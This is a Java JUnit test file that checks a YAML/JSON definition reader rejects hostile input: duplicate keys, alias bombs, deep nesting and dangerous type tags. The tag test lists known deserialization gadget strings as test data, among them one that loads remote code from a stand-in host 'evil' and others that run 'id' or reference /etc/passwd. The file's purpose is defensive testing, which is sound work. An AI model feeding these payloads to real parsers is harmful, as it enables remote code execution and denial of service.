package io.facsimile.core.definition.format;

import static io.facsimile.core.definition.format.ReadFailure.assertReadFails;
import static io.facsimile.core.definition.format.ReadFailure.assertReadFailsAt;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.facsimile.core.reliability.Case;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Collections;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile definition files: duplicate keys, type tags, alias bombs, deep nesting. */
class DocumentInputHardeningTest {

    @TempDir
    Path dir;

    private Path write(String name, String content) throws IOException {
        return Files.writeString(dir.resolve(name), content, StandardCharsets.UTF_8);
    }

    @Test
    @Case("input.duplicate-keys")
    void duplicateYamlKeysNameBothLines() throws IOException {
        Path file = write("prod.yaml", "deploy:\n  home: /a\n  keep: 3\n  home: /b\n");
        assertReadFailsAt(file, ":4:3: duplicate key 'home'", "first at line 2, column 3");
    }

    @Test
    @Case("input.duplicate-keys")
    void duplicateJsonKeysNameBothLinesAtAnyDepth() throws IOException {
        Path file = write("prod.json", "{\"a\": {\"b\": {\n  \"c\": 1,\n  \"d\": 2,\n  \"c\": 3}}}\n");
        assertReadFails(file)
                .hasMessageStartingWith(file + ":4:")
                .hasMessageContaining("duplicate key 'c'")
                .hasMessageContaining("first at line 2");
        // The same key in sibling maps is not a duplicate.
        Path fine = write("ok.json", "{\"a\": {\"c\": 1}, \"b\": {\"c\": 1}}");
        assertThat(DocumentReader.read(fine).root()).isNotNull();
    }

    @Test
    @Case("input.yaml-tags")
    void everyNonCoreYamlTagIsRejectedWherever_itStands() throws IOException {
        String[] gadgets = {
            "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]",
            "- !!java.lang.ProcessBuilder [[\"id\"]]",
            "a:\n  b: [1, !<tag:yaml.org,2002:java.io.File> /etc/passwd]",
            "? !!python/object/apply:os.system [\"id\"]\n: 1",
            "x: !!binary aGVsbG8=",
            "x: !!set {a, b}",
        };
        for (String gadget : gadgets) {
            Path file = write("evil.yaml", gadget);
            assertReadFails(file).as(gadget).hasMessageStartingWith(file + ":");
        }
    }

    @Test
    @Case("input.alias-bomb")
    void aliasBombsAreRejectedWithoutBeingExpanded() throws IOException {
        // Nine levels of ten aliases (a billion laughs): more aliases than allowed.
        StringBuilder wide = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        // Five levels of nine aliases (45, under the alias limit) expanding to ten million values.
        StringBuilder deep = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 10; i++) {
            wide.append("a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [")
                    .append(String.join(", ", Collections.nCopies(10, "*a" + (i - 1))))
                    .append("]\n");
            if (i < 7) {
                deep.append("a")
                        .append(i)
                        .append(": &a")
                        .append(i)
                        .append(" [")
                        .append(String.join(", ", Collections.nCopies(i < 6 ? 9 : 1, "*a" + (i - 1))))
                        .append("]\n");
            }
        }
        // The limit is about the document, not about loading the YAML classes: warm them up first.
        DocumentReader.read(write("warm.yaml", "a: &a [1]\nb: *a\n"));
        for (String bomb : new String[] {wide.toString(), deep.toString()}) {
            Path file = write("bomb.yaml", bomb);
            // a guard against a hang, not a speed goal: expanding 10^9 values would never end in time
            assertTimeoutPreemptively(
                    Duration.ofSeconds(30), () -> assertReadFails(file).hasMessageStartingWith(file + ":"));
        }
    }

    @Test
    @Case("input.deep-nesting")
    void deeplyNestedDocumentsAreAnErrorNotAStackOverflow() throws IOException {
        int depth = 50_000;
        DocumentReader.read(write("warm.yaml", "a: [[1]]\n"));
        DocumentReader.read(write("warm.json", "{\"a\": [[1]]}"));
        for (String[] kind : new String[][] {{"deep.json", "["}, {"deep.yaml", "["}}) {
            Path file = write(kind[0], kind[1].repeat(depth) + "]".repeat(depth));
            assertTimeoutPreemptively(
                    Duration.ofSeconds(30),
                    () -> assertReadFails(file).as(kind[0]).hasMessageStartingWith(file + ":"));
        }
    }
}
